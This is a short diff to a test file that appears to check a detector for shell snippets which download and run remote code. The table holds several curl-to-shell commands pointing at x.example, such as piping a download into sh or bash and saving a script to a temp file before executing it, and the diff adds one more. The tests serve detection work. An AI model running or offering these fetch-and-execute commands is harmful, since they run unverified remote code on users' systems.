@@ -47,6 +47,7 @@ test.each([
   ['S=$(curl https://x.example)\necho "$S" | sh', "x.example mutable 7"],
   ["curl https://x.example \\\n  --silent |\n  bash", "x.example mutable 8"],
   ["curl -o i.sh https://x.example/f\nbash i.sh", "x.example mutable 7"],
+  ["F=$(mktemp)\ncurl -o $F https://x.example/f\nsh $F", "x.example mutable 8"],
   [
     "curl -sSLo /tmp/i.sh https://x.example/f\nchmod +x /tmp/i.sh\n/tmp/i.sh",
     "x.example mutable 8",
